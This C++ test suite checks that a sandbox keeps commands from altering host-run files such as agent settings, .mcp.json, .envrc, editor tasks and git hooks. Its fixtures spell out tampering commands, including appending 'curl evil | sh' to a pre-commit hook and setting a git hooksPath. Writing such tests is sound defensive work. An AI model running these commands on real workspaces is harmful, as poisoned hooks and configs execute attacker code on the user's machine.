// protect_host_run_files, judged from outside: the workspace files a host program later runs
// (agent settings and hooks, .mcp.json, editor tasks, .envrc, ...) cannot be written, created
// in, renamed away, replaced by a link or reached through a hard link by the command; the files
// beside them stay writable, and so does an entry the user removed from the list. Through every
// path (CORDON_KERNEL_PATH) and backend (CORDON_TEST_BACKEND) the suite runs on.
#include <fmt/format.h>

#include <chrono>
#include <fstream>
#include <thread>

#include "kernel_support.h"

namespace cordon::kernel_test {
namespace {

using HostRunFilesTest = KernelTest;

void Plant(const std::filesystem::path& path, const std::string& text) {
  std::filesystem::create_directories(path.parent_path());
  std::ofstream(path) << text;
}

// Each attempt on `entry` (a file), each reporting what happened inside on its own line.
std::string AttackFile(const std::string& entry) {
  return fmt::format(
      "echo '{{\"hooks\": \"pwned\"}}' >> {0} 2>/dev/null && echo 'appended {0}'; "
      "mv {0} {0}.moved 2>/dev/null && echo 'renamed {0}'; "
      "rm -f {0} 2>/dev/null && echo pwned > {0} 2>/dev/null && echo 'replaced {0}'; "
      "ln -sf /elsewhere {0} 2>/dev/null && echo 'linked {0}'; "
      "ln {0} {0}.hard 2>/dev/null && echo pwned >> {0}.hard && echo 'hard-linked {0}'; ",
      entry);
}

// The same on a directory entry: a file created in it, the directory renamed or replaced.
std::string AttackDirectory(const std::string& entry) {
  return fmt::format(
      "echo pwned > {0}/planted 2>/dev/null && echo 'created in {0}'; "
      "echo pwned >> {0}/settings.json 2>/dev/null && echo 'appended {0}/settings.json'; "
      "mv {0} {0}.moved 2>/dev/null && echo 'renamed {0}'; "
      "rm -rf {0} 2>/dev/null; mkdir -p {0} 2>/dev/null && echo pwned > {0}/planted "
      "2>/dev/null && echo 'replaced {0}'; ",
      entry);
}

TEST_F(HostRunFilesTest, PresentEntriesCannotBeChangedAndTheFilesBesideThemCan) {
  const std::string settings = "{\"permissions\": {}}\n";
  Plant(workspace_ / ".claude/settings.json", settings);
  Plant(workspace_ / ".vscode/settings.json", settings);
  Plant(workspace_ / ".github/hooks/settings.json", settings);  // an entry two levels down
  Plant(workspace_ / ".mcp.json", settings);
  Plant(workspace_ / ".envrc", "export A=1\n");
  Plant(workspace_ / ".gitmodules", "");
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  std::string script;
  for (const char* dir : {".claude", ".vscode", ".github/hooks"}) script += AttackDirectory(dir);
  for (const char* file : {".mcp.json", ".envrc", ".gitmodules"}) script += AttackFile(file);
  // The allowed twins: an ordinary file beside them, a look-alike name, the parent of a nested
  // entry.
  script +=
      "echo ok > notes.txt && echo ok > .claude-notes && echo ok > .github/workflow.yml && "
      "echo allowed";
  const RunResult result = Shell(*session, script);
  EXPECT_EQ(result.stdout_data.data, "allowed\n") << Describe(result);
  for (const char* dir : {".claude", ".vscode", ".github/hooks"}) {
    EXPECT_EQ(ReadFile(workspace_ / dir / "settings.json"), settings) << dir;
    EXPECT_FALSE(Exists(workspace_ / dir / "planted")) << dir;
    EXPECT_FALSE(Exists(workspace_ / (std::string(dir) + ".moved"))) << dir;
  }
  EXPECT_EQ(ReadFile(workspace_ / ".mcp.json"), settings);
  EXPECT_EQ(ReadFile(workspace_ / ".envrc"), "export A=1\n");
  EXPECT_EQ(ReadFile(workspace_ / ".gitmodules"), "");
  for (const char* file : {".mcp.json", ".envrc", ".gitmodules"}) {
    EXPECT_FALSE(std::filesystem::is_symlink(workspace_ / file)) << file;
    EXPECT_FALSE(Exists(workspace_ / (std::string(file) + ".moved"))) << file;
    EXPECT_FALSE(Exists(workspace_ / (std::string(file) + ".hard"))) << file;
  }
  EXPECT_EQ(ReadFile(workspace_ / "notes.txt"), "ok\n");
  EXPECT_EQ(ReadFile(workspace_ / ".claude-notes"), "ok\n");
  EXPECT_EQ(ReadFile(workspace_ / ".github/workflow.yml"), "ok\n");
}

TEST_F(HostRunFilesTest, AnotherWritableRootsEntriesAreProtectedToo) {
  const std::filesystem::path extra = root_ / "extra";
  Plant(extra / ".mcp.json", "{}\n");
  Config config = MakeConfig();
  config.sandbox.writable_roots = {extra};
  auto session = SessionOrSkip(config);
  if (!session) return;
  const RunResult result =
      Shell(*session, fmt::format("cd '{}' && ", extra.string()) + AttackFile(".mcp.json") +
                          "echo ok > other.json && echo allowed");
  EXPECT_EQ(result.stdout_data.data, "allowed\n") << Describe(result);
  EXPECT_EQ(ReadFile(extra / ".mcp.json"), "{}\n");
  EXPECT_EQ(ReadFile(extra / "other.json"), "ok\n");
}

TEST_F(HostRunFilesTest, AnEntryTheUserRemovedOrAddedIsWritableOrProtectedAsConfigured) {
  Plant(workspace_ / ".vscode/tasks.json", "{}\n");
  Plant(workspace_ / ".envrc", "export A=1\n");
  Plant(workspace_ / "tools/hooks/pre.sh", "true\n");
  Config config = MakeConfig();
  config.sandbox.host_run_files.remove = {".vscode/"};
  config.sandbox.host_run_files.add = {"tools/hooks/"};
  auto session = SessionOrSkip(config);
  if (!session) return;
  const RunResult result = Shell(*session,
                                 "echo changed > .vscode/tasks.json && echo 'vscode written'; "
                                 "echo pwned > tools/hooks/pre.sh 2>/dev/null && echo 'added "
                                 "written'; echo pwned > .envrc 2>/dev/null && echo 'envrc "
                                 "written'; true");
  EXPECT_EQ(result.stdout_data.data, "vscode written\n") << Describe(result);
  EXPECT_EQ(ReadFile(workspace_ / ".vscode/tasks.json"), "changed\n");
  EXPECT_EQ(ReadFile(workspace_ / "tools/hooks/pre.sh"), "true\n");
  EXPECT_EQ(ReadFile(workspace_ / ".envrc"), "export A=1\n");

  // Protection off: every entry is an ordinary file again.
  config.sandbox.protect_host_run_files = false;
  auto off = SessionOrSkip(config);
  if (!off) return;
  const RunResult unprotected = Shell(*off, "echo changed > .envrc && echo written");
  EXPECT_EQ(unprotected.stdout_data.data, "written\n") << Describe(unprotected);
  EXPECT_EQ(ReadFile(workspace_ / ".envrc"), "changed\n");
}

// A session's later commands run in sandboxes prepared ahead (zygote, run server, MCP): an entry
// the host created, or replaced the way editors save (a new file renamed over the old), since
// the last command is protected in the next one all the same.
TEST_F(HostRunFilesTest, EntriesTheHostCreatesOrReplacesBetweenCommandsAreProtectedInTheNext) {
  Plant(workspace_ / ".mcp.json", "{}\n");
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const std::string attack =
      "echo pwned >> .mcp.json 2>/dev/null && echo 'wrote .mcp.json'; "
      "echo pwned > .claude/settings.json 2>/dev/null && echo 'wrote .claude'; "
      "echo ok > notes.txt && echo allowed";
  const RunResult first = Shell(*session, attack);  // the session's sandboxes are warm now
  EXPECT_EQ(first.stdout_data.data, "allowed\n") << Describe(first);
  for (int round = 1; round <= 3; ++round) {
    const std::string text = fmt::format("{{\"round\": {}}}\n", round);
    Plant(workspace_ / "saved.json", text);
    std::filesystem::rename(workspace_ / "saved.json", workspace_ / ".mcp.json");
    if (round == 2) Plant(workspace_ / ".claude/settings.json", "{}\n");
    const RunResult result = Shell(*session, attack);
    EXPECT_EQ(result.stdout_data.data, "allowed\n") << "round " << round << Describe(result);
    EXPECT_EQ(ReadFile(workspace_ / ".mcp.json"), text) << "round " << round;
    if (round >= 2) {
      EXPECT_EQ(ReadFile(workspace_ / ".claude/settings.json"), "{}\n") << "round " << round;
    }
  }
}

// What a host tool would find at each entry the attacks aimed at: nothing, or what it is.
std::string LeftAt(const std::filesystem::path& ws) {
  std::string found;
  for (const char* entry : {".claude", ".mcp.json", ".envrc", ".github/hooks", ".vscode",
                            ".aider.conf.yml", ".config/mise", "mise"}) {
    std::error_code ec;
    if (std::filesystem::symlink_status(ws / entry, ec).type() !=
        std::filesystem::file_type::not_found) {
      found += std::string(entry) + " ";
    }
  }
  return found;
}

TEST_F(HostRunFilesTest, AbsentEntriesCannotBeCreatedAndNothingOfThemStaysBetweenCommands) {
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const std::string attack =
      "mkdir -p .claude 2>/dev/null; echo '{\"hooks\": 1}' > .claude/settings.json 2>/dev/null "
      "&& echo 'created .claude/settings.json'; "
      "echo '{}' > .mcp.json 2>/dev/null && echo 'created .mcp.json'; "
      "rm -f .envrc 2>/dev/null; echo 'touch pwned' > .envrc 2>/dev/null && echo 'created .envrc'; "
      "ln -s /elsewhere .aider.conf.yml 2>/dev/null && echo 'linked .aider.conf.yml'; "
      "mv .vscode .vscode-moved 2>/dev/null && echo 'renamed .vscode'; "
      "mkdir -p .vscode/x 2>/dev/null && echo 'created in .vscode'; "
      "mkdir -p .github/hooks/x 2>/dev/null && echo 'created in .github/hooks'; "
      // The allowed twins: beside them, and in the directory made on the way to one.
      "mkdir -p .github/workflows && echo ok > .github/workflows/ci.yml && echo ok > notes.txt "
      "&& echo allowed";
  for (int round = 0; round < 3; ++round) {
    EXPECT_EQ(LeftAt(workspace_), "") << "before command " << round;
    const RunResult result = Shell(*session, attack);
    EXPECT_EQ(result.stdout_data.data, "allowed\n") << "round " << round << Describe(result);
    EXPECT_EQ(LeftAt(workspace_), "") << "after command " << round;
    EXPECT_FALSE(Exists(workspace_ / ".vscode-moved"));
    EXPECT_EQ(ReadFile(workspace_ / ".github/workflows/ci.yml"), "ok\n");
  }
}

// While a command runs, a tool on the host finds each absent entry absent: a dangling link
// (nothing to parse) or an empty directory; the command itself sees the same.
TEST_F(HostRunFilesTest, WhileACommandRunsTheHostFindsTheAbsentEntriesAbsent) {
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  RunResult result;
  std::thread run([&] {
    result = Shell(*session,
                   "test -e .mcp.json || echo 'absent inside'; touch started; "
                   "while [ ! -e go ]; do sleep 0.01; done");
  });
  for (int i = 0; i < 1000 && !Exists(workspace_ / "started"); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_TRUE(Exists(workspace_ / "started"));
  if (UnderBwrap()) {
    // bubblewrap mounts by path and would follow a link: its placeholders are all empty
    // directories (docs/backends.md).
    EXPECT_TRUE(std::filesystem::is_directory(workspace_ / ".mcp.json"));
    EXPECT_TRUE(std::filesystem::is_empty(workspace_ / ".mcp.json"));
  } else {
    EXPECT_FALSE(std::filesystem::exists(workspace_ / ".mcp.json"));  // stat: no such file
    EXPECT_TRUE(std::filesystem::is_symlink(workspace_ / ".mcp.json"));
  }
  EXPECT_TRUE(std::filesystem::is_empty(workspace_ / ".claude"));
  std::ofstream(workspace_ / "go") << "";
  run.join();
  EXPECT_EQ(result.stdout_data.data, UnderBwrap() ? "" : "absent inside\n") << Describe(result);
  EXPECT_EQ(LeftAt(workspace_), "");
}

TEST_F(HostRunFilesTest, AnAbsentEntryTheUserRemovedCanBeCreated) {
  Config config = MakeConfig();
  config.sandbox.host_run_files.remove = {".envrc"};
  auto session = SessionOrSkip(config);
  if (!session) return;
  const RunResult result = Shell(*session,
                                 "echo 'export A=1' > .envrc && echo 'created .envrc'; "
                                 "echo '{}' > .mcp.json 2>/dev/null && echo 'created .mcp.json'; "
                                 "true");
  EXPECT_EQ(result.stdout_data.data, "created .envrc\n") << Describe(result);
  EXPECT_EQ(ReadFile(workspace_ / ".envrc"), "export A=1\n");
  EXPECT_FALSE(std::filesystem::is_symlink(workspace_ / ".mcp.json"));
  EXPECT_FALSE(Exists(workspace_ / ".mcp.json"));
}

TEST_F(HostRunFilesTest, ALinkedEntryRefusesTheRunBeforeAnythingRuns) {
  Plant(workspace_ / "shared/mcp.json", "{}\n");
  std::filesystem::create_symlink("shared/mcp.json", workspace_ / ".mcp.json");
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const RunResult result = Shell(*session, "echo ran > ran.txt; echo pwned > shared/mcp.json");
  EXPECT_EQ(result.status, RunStatus::kSetupFailed) << Describe(result);
  EXPECT_NE(result.error.find("symbolic link"), std::string::npos) << Describe(result);
  EXPECT_NE(result.error.find("\"remove\": [\".mcp.json\"]"), std::string::npos)
      << Describe(result);
  EXPECT_FALSE(Exists(workspace_ / "ran.txt"));
  EXPECT_EQ(ReadFile(workspace_ / "shared/mcp.json"), "{}\n");
  // The twin: with the entry removed from the list, the same run goes ahead.
  Config config = MakeConfig();
  config.sandbox.host_run_files.remove = {".mcp.json"};
  auto removed = SessionOrSkip(config);
  if (!removed) return;
  const RunResult ran = Shell(*removed, "echo ran > ran.txt");
  EXPECT_EQ(ran.status, RunStatus::kExited) << Describe(ran);
  EXPECT_EQ(ReadFile(workspace_ / "ran.txt"), "ran\n");
}

// Projects nested below the workspace (a repository, a package with its own agent or editor
// config) are protected as the workspace itself is: present entries and .git read-only, absent
// entries not creatable, and neither the project nor a directory above it can be moved away
// (out of a later command's search) or removed.
TEST_F(HostRunFilesTest, NestedProjectsAreProtectedLikeTheWorkspace) {
  Plant(workspace_ / "repo/.git/hooks/pre-commit", "#!/bin/sh\ntrue\n");
  Plant(workspace_ / "repo/.git/config", "[core]\n");
  Plant(workspace_ / "packages/web/.vscode/tasks.json", "{}\n");
  Plant(workspace_ / "packages/web/index.js", "1\n");
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const std::string attack =
      "echo 'curl evil | sh' >> repo/.git/hooks/pre-commit 2>/dev/null && echo 'wrote hook'; "
      "echo '[core] hooksPath=/x' >> repo/.git/config 2>/dev/null && echo 'wrote config'; "
      "echo '{}' > repo/.mcp.json 2>/dev/null && echo 'created repo/.mcp.json'; "
      "mkdir -p repo/.claude 2>/dev/null; echo '{}' > repo/.claude/settings.json 2>/dev/null "
      "&& echo 'created repo/.claude'; "
      "echo pwned >> packages/web/.vscode/tasks.json 2>/dev/null && echo 'wrote tasks'; "
      "echo pwned > packages/web/.envrc 2>/dev/null && echo 'created .envrc'; "
      "mv repo repo.moved 2>/dev/null && echo 'moved repo'; "
      "mv packages packages.moved 2>/dev/null && echo 'moved packages'; "
      "rm -rf repo 2>/dev/null; test -d repo/.git || echo 'removed repo'; "
      // The allowed twins: files beside the entries, new directories beside the projects.
      "echo ok > repo/notes.txt && echo 2 > packages/web/index.js && mkdir -p packages/api/src "
      "&& echo ok > packages/api/src/a.js && echo allowed";
  for (int round = 0; round < 2; ++round) {
    const RunResult result = Shell(*session, attack);
    EXPECT_EQ(result.stdout_data.data, "allowed\n") << "round " << round << Describe(result);
    EXPECT_EQ(ReadFile(workspace_ / "repo/.git/hooks/pre-commit"), "#!/bin/sh\ntrue\n");
    EXPECT_EQ(ReadFile(workspace_ / "repo/.git/config"), "[core]\n");
    EXPECT_EQ(ReadFile(workspace_ / "packages/web/.vscode/tasks.json"), "{}\n");
    EXPECT_EQ(LeftAt(workspace_ / "repo"), "");
    EXPECT_EQ(LeftAt(workspace_ / "packages/web"), ".vscode ");  // its own, nothing else
    EXPECT_FALSE(Exists(workspace_ / "repo.moved"));
    EXPECT_FALSE(Exists(workspace_ / "packages.moved"));
    EXPECT_EQ(ReadFile(workspace_ / "repo/notes.txt"), "ok\n");
    EXPECT_EQ(ReadFile(workspace_ / "packages/web/index.js"), "2\n");
    EXPECT_EQ(ReadFile(workspace_ / "packages/api/src/a.js"), "ok\n");
  }
}

// The search's depth is the user's: a project below it, or with the search off, is an ordinary
// directory (the allowed twin of the test above).
TEST_F(HostRunFilesTest, ANestedProjectBelowTheConfiguredDepthIsAnOrdinaryDirectory) {
  Plant(workspace_ / "a/b/repo/.git/hooks/pre-commit", "true\n");
  Plant(workspace_ / "repo/.git/hooks/pre-commit", "true\n");
  Config config = MakeConfig();
  config.sandbox.nested_project_depth = 2;
  auto session = SessionOrSkip(config);
  if (!session) return;
  const std::string attack =
      "echo pwned > a/b/repo/.git/hooks/pre-commit 2>/dev/null && echo 'wrote deep'; "
      "echo pwned > repo/.git/hooks/pre-commit 2>/dev/null && echo 'wrote near'; true";
  const RunResult result = Shell(*session, attack);
  EXPECT_EQ(result.stdout_data.data, "wrote deep\n") << Describe(result);
  EXPECT_EQ(ReadFile(workspace_ / "repo/.git/hooks/pre-commit"), "true\n");
  config.sandbox.nested_project_depth = 0;
  auto off = SessionOrSkip(config);
  if (!off) return;
  const RunResult unprotected = Shell(*off, attack);
  EXPECT_EQ(unprotected.stdout_data.data, "wrote deep\nwrote near\n") << Describe(unprotected);
  EXPECT_EQ(ReadFile(workspace_ / "repo/.git/hooks/pre-commit"), "pwned\n");
}

// A repository the host clones, or an agent config it writes, while the session lives is a
// project for the next command (the run server and `cordon mcp` keep the search's result while
// nothing that could change it happens).
TEST_F(HostRunFilesTest, AProjectTheHostMakesBetweenCommandsIsProtectedInTheNext) {
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const std::string attack =
      "echo pwned >> lib/.git/config 2>/dev/null && echo 'wrote lib/.git'; "
      "echo '{}' > tools/x/.mcp.json 2>/dev/null && echo 'created tools/x/.mcp.json'; "
      "echo ok > notes.txt && echo allowed";
  const RunResult first = Shell(*session, "mkdir -p tools && echo ok > notes.txt");
  EXPECT_EQ(first.status, RunStatus::kExited) << Describe(first);
  Plant(workspace_ / "lib/.git/config", "[core]\n");
  Plant(workspace_ / "tools/x/.vscode/settings.json", "{}\n");
  for (int round = 0; round < 2; ++round) {
    const RunResult result = Shell(*session, attack);
    EXPECT_EQ(result.stdout_data.data, "allowed\n") << "round " << round << Describe(result);
    EXPECT_EQ(ReadFile(workspace_ / "lib/.git/config"), "[core]\n");
    EXPECT_FALSE(Exists(workspace_ / "tools/x/.mcp.json"));
  }
}

// More directories to search than the bound refuses the run, naming the setting; nothing
// runs. The twin: with the search off, the same workspace runs.
TEST_F(HostRunFilesTest, AWorkspaceTooLargeToSearchRefusesTheRunNamingTheSetting) {
  for (int i = 0; i < 10000; ++i) {
    std::filesystem::create_directory(workspace_ / fmt::format("d{}", i));
  }
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const RunResult result = Shell(*session, "echo ran > ran.txt");
  EXPECT_EQ(result.status, RunStatus::kSetupFailed) << Describe(result);
  EXPECT_NE(result.error.find("nested_project_depth"), std::string::npos) << Describe(result);
  EXPECT_FALSE(Exists(workspace_ / "ran.txt"));
  Config config = MakeConfig();
  config.sandbox.nested_project_depth = 0;
  auto off = SessionOrSkip(config);
  if (!off) return;
  const RunResult ran = Shell(*off, "echo ran > ran.txt");
  EXPECT_EQ(ran.status, RunStatus::kExited) << Describe(ran);
  EXPECT_EQ(ReadFile(workspace_ / "ran.txt"), "ran\n");
}

// A hidden path inside an entry pins the directories above it (so that the secret cannot be
// moved out from under its mask); the pin must not undo the entry's read-only bind (with
// bubblewrap a pin is a bind from the host, made before the read-only binds, not after).
TEST_F(HostRunFilesTest, AHiddenPathInsideAnEntryLeavesTheEntryReadOnly) {
  Plant(workspace_ / ".claude/settings.json", "{}\n");
  Plant(workspace_ / ".claude/keys/token.json", "secret\n");
  Config config = MakeConfig();
  config.sandbox.hidden_paths = {workspace_ / ".claude/keys/token.json"};
  auto session = SessionOrSkip(config);
  if (!session) return;
  const RunResult result = Shell(*session,
                                 "cat .claude/keys/token.json 2>/dev/null; "
                                 "echo pwned > .claude/settings.json 2>/dev/null && echo wrote; "
                                 "echo ok > notes.txt && echo allowed");
  EXPECT_EQ(result.stdout_data.data, "allowed\n") << Describe(result);
  EXPECT_EQ(ReadFile(workspace_ / ".claude/settings.json"), "{}\n");
  EXPECT_EQ(ReadFile(workspace_ / "notes.txt"), "ok\n");
}

// A .git that is a link to a directory: host git follows it, so its hooks run on the host. The
// run is refused before anything runs (a bind would keep only where the link points today, and
// the command could replace the link); the twin: the way out the message names, a gitdir file
// naming the same directory, runs and keeps that directory read-only.
TEST_F(HostRunFilesTest, ALinkedGitRefusesTheRunAndAGitdirFileNamingItsDirectoryIsProtected) {
  Plant(workspace_ / "decoy-git/hooks/post-checkout", "true\n");
  Plant(workspace_ / "decoy-git/HEAD", "ref: refs/heads/main\n");
  std::filesystem::create_symlink("decoy-git", workspace_ / ".git");
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const std::string attack =
      "echo ran > ran.txt; echo pwned > .git/hooks/post-checkout 2>/dev/null && echo wrote; "
      "true";
  const RunResult refused = Shell(*session, attack);
  EXPECT_EQ(refused.status, RunStatus::kSetupFailed) << Describe(refused);
  EXPECT_NE(refused.error.find("symbolic link"), std::string::npos) << Describe(refused);
  EXPECT_NE(refused.error.find("gitdir"), std::string::npos) << Describe(refused);
  EXPECT_FALSE(Exists(workspace_ / "ran.txt"));
  EXPECT_EQ(ReadFile(workspace_ / "decoy-git/hooks/post-checkout"), "true\n");

  std::filesystem::remove(workspace_ / ".git");
  Plant(workspace_ / ".git", "gitdir: " + (workspace_ / "decoy-git").string() + "\n");
  auto fixed = SessionOrSkip(MakeConfig());
  if (!fixed) return;
  const RunResult ran = Shell(*fixed, attack);
  EXPECT_EQ(ran.status, RunStatus::kExited) << Describe(ran);
  EXPECT_EQ(ran.stdout_data.data, "") << Describe(ran);
  EXPECT_EQ(ReadFile(workspace_ / "ran.txt"), "ran\n");
  EXPECT_EQ(ReadFile(workspace_ / "decoy-git/hooks/post-checkout"), "true\n");
}

// A command that plants a nested project whose .git file names the workspace as its git
// directory must not freeze the workspace for every later command (all of it bound read-only
// as "git metadata"), nor leave hooks writable: without a HEAD there git uses none of it and
// the next command writes as ever; with one the run is refused, naming the file. The twin:
// the file removed, commands write again.
TEST_F(HostRunFilesTest, AGitFileNamingItsOwnWorkspaceNeitherFreezesItNorLeavesItsHooksOpen) {
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const RunResult planted = Shell(*session, "mkdir -p sub && echo 'gitdir: ..' > sub/.git");
  ASSERT_EQ(planted.exit_code, 0) << Describe(planted);
  const RunResult writes = Shell(*session, "echo a > note.txt");
  EXPECT_EQ(writes.exit_code, 0) << Describe(writes);
  EXPECT_EQ(ReadFile(workspace_ / "note.txt"), "a\n");
  const RunResult head = Shell(*session, "echo 'ref: refs/heads/main' > HEAD");
  EXPECT_EQ(head.exit_code, 0) << Describe(head);
  const RunResult refused = Shell(*session, "echo b > note.txt");
  EXPECT_EQ(refused.status, RunStatus::kSetupFailed) << Describe(refused);
  EXPECT_NE(refused.error.find((workspace_ / "sub/.git").string()), std::string::npos)
      << Describe(refused);
  EXPECT_EQ(ReadFile(workspace_ / "note.txt"), "a\n");
  std::filesystem::remove(workspace_ / "sub/.git");
  const RunResult again = Shell(*session, "echo c > note.txt");
  EXPECT_EQ(again.exit_code, 0) << Describe(again);
  EXPECT_EQ(ReadFile(workspace_ / "note.txt"), "c\n");
}

// A command may change the mode of its own directories: closing a project (or the directory
// above it, or the workspace) to its owner must not leave the next command a project that
// cordon could not look into, whose mode that command restores before writing its hooks or
// creating an agent config. Refused (unprivileged: cordon cannot look), or protected as ever
// (root: it can); either way nothing lands. The twin: modes restored, the run goes ahead.
TEST_F(HostRunFilesTest, ADirectoryAChmodClosedDoesNotLeaveItsProjectUnprotected) {
  Plant(workspace_ / "libs/x/.git/hooks/pre-commit", "true\n");
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const std::pair<const char*, const char*> closes[] = {
      {"libs/x", "600"}, {"libs", "600"}, {".", "500"}};
  for (const auto& [dir, mode] : closes) {
    const RunResult closed = Shell(*session, fmt::format("chmod {} {}", mode, dir));
    EXPECT_EQ(closed.status, RunStatus::kExited) << dir << Describe(closed);
    const RunResult attack = Shell(
        *session, fmt::format("chmod 755 {}; echo pwned >> libs/x/.git/hooks/pre-commit "
                              "2>/dev/null && echo wrote; mkdir -p .claude libs/x/.claude "
                              "2>/dev/null; echo '{{}}' > .claude/settings.json 2>/dev/null && "
                              "echo created; echo '{{}}' > libs/x/.claude/settings.json "
                              "2>/dev/null && echo created; true",
                              dir));
    EXPECT_EQ(attack.stdout_data.data.find("wrote"), std::string::npos) << dir << Describe(attack);
    EXPECT_EQ(attack.stdout_data.data.find("created"), std::string::npos)
        << dir << Describe(attack);
    if (attack.status == RunStatus::kSetupFailed) {
      EXPECT_NE(attack.error.find("chmod u+rwx"), std::string::npos) << dir << Describe(attack);
    }
    std::filesystem::permissions(workspace_ / dir, std::filesystem::perms::owner_all,
                                 std::filesystem::perm_options::add);
    EXPECT_EQ(ReadFile(workspace_ / "libs/x/.git/hooks/pre-commit"), "true\n") << dir;
    EXPECT_FALSE(Exists(workspace_ / ".claude/settings.json")) << dir;
    EXPECT_FALSE(Exists(workspace_ / "libs/x/.claude/settings.json")) << dir;
    const RunResult twin = Shell(*session, "echo ok > notes.txt && echo allowed");
    EXPECT_EQ(twin.stdout_data.data, "allowed\n") << dir << Describe(twin);
  }
}

// A read-only bind keeps an entry's inode, not its name: the directories on the way to an entry
// (present, or made for a placeholder) and to a gitdir file's target are pinned, so none can be
// renamed away and made again with an entry of the command's own. The twin: a file created
// beside them, and their ordinary contents, stay writable.
TEST_F(HostRunFilesTest, TheDirectoriesOnTheWayToAnEntryCannotBeRenamedAndMadeAgain) {
  Plant(workspace_ / ".github/hooks/hooks.json", "{}\n");
  Plant(workspace_ / ".config/mise.toml", "[tools]\n");
  Plant(workspace_ / "gitdirs/main/HEAD", "ref: refs/heads/main\n");
  std::filesystem::create_directories(workspace_ / "gitdirs/main/hooks");
  Plant(workspace_ / "sub/.git", "gitdir: ../gitdirs/main\n");  // a nested project's .git file
  Plant(workspace_ / "pkg/.vscode/settings.json", "{}\n");      // absent .clinerules/hooks there
  auto session = SessionOrSkip(MakeConfig());
  if (!session) return;
  const std::string attack =
      "mv .github .gh 2>/dev/null; mkdir -p .github/hooks 2>/dev/null; "
      "echo pwned > .github/hooks/hooks.json 2>/dev/null && echo 'replaced .github'; "
      "mv .config .cfg 2>/dev/null; mkdir -p .config 2>/dev/null; "
      "echo pwned > .config/mise.toml 2>/dev/null && echo 'replaced .config'; "
      "mv gitdirs gd 2>/dev/null; mkdir -p gitdirs/main/hooks 2>/dev/null; "
      "echo pwned > gitdirs/main/hooks/pre-commit 2>/dev/null && echo 'replaced gitdirs'; "
      "mv pkg/.clinerules pkg/.cr 2>/dev/null; mkdir -p pkg/.clinerules/hooks 2>/dev/null; "
      "echo pwned > pkg/.clinerules/hooks/h 2>/dev/null && echo 'replaced .clinerules'; "
      "mv .clinerules .cr 2>/dev/null; mkdir -p .clinerules/hooks 2>/dev/null; "
      "echo pwned > .clinerules/hooks/h 2>/dev/null && echo 'replaced root .clinerules'; "
      "echo ok > .github/notes.md && echo ok > .config/other.toml && echo ok > gitdirs/x && "
      "echo allowed";
  for (int round = 0; round < 2; ++round) {
    const RunResult result = Shell(*session, attack);
    EXPECT_EQ(result.stdout_data.data, "allowed\n") << "round " << round << Describe(result);
    EXPECT_EQ(ReadFile(workspace_ / ".github/hooks/hooks.json"), "{}\n");
    EXPECT_EQ(ReadFile(workspace_ / ".config/mise.toml"), "[tools]\n");
    EXPECT_FALSE(Exists(workspace_ / "gitdirs/main/hooks/pre-commit"));
    EXPECT_FALSE(Exists(workspace_ / "pkg/.clinerules/hooks/h"));
    EXPECT_FALSE(Exists(workspace_ / ".clinerules/hooks/h"));
    for (const char* moved : {".gh", ".cfg", "gd", "pkg/.cr", ".cr"}) {
      EXPECT_FALSE(Exists(workspace_ / moved)) << moved;
    }
  }
}

}  // namespace
}  // namespace cordon::kernel_test
